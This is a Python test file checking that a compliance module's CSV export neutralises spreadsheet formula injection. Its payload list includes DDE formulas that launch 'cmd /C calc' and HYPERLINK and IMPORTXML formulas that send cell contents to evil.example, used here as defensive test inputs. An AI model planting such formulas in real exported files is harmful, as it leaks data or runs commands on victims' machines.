"""CSV that no spreadsheet runs. Covers compliance.routes.csv_answers.

There is no spreadsheet here to open it with: the bytes are checked, and read back by the rules that spreadsheets use.
"""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from compliance.routes.csv_answers import Cell, csv_lines

# As published by OWASP, PayloadsAllTheThings and others.
FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1:B2),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=1+1\";=1+1;\"",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    written = csv_lines([("name", formula, 1)])
    assert written.startswith('"name","\'')
    assert [["name", f"'{formula}", "1"]] == read(written)


@given(st.lists(st.text() | st.integers() | st.none(), min_size=1, max_size=4))
def test_no_cell_begins_like_a_formula_and_none_becomes_two(row: list[Cell]) -> None:
    """A number may begin with a minus sign; that is no formula."""
    [cells] = read(csv_lines([row, ["end"]]))[:1]
    assert len(row) == len(cells)
    for cell, asked in zip(cells, row, strict=True):
        assert isinstance(asked, int) or not cell.startswith(STARTS)
        assert cell.removeprefix("'") in {"" if asked is None else str(asked), str(asked)[1:]}


@pytest.mark.parametrize("text", ["a;=1+1", "a\t=1+1", "a,=1+1", 'a","=1+1'])
def test_a_text_stays_between_quotation_marks_whatever_parts_the_cells(text: str) -> None:
    for separator in (",", ";", "\t"):
        written = csv_lines([(text,)])
        assert 1 == len(next(csv.reader(io.StringIO(written), delimiter=separator)))


def test_numbers_stay_numbers() -> None:
    assert '-5,1.5,"x",""\r\n' == csv_lines([(-5, 1.5, "x", None)])
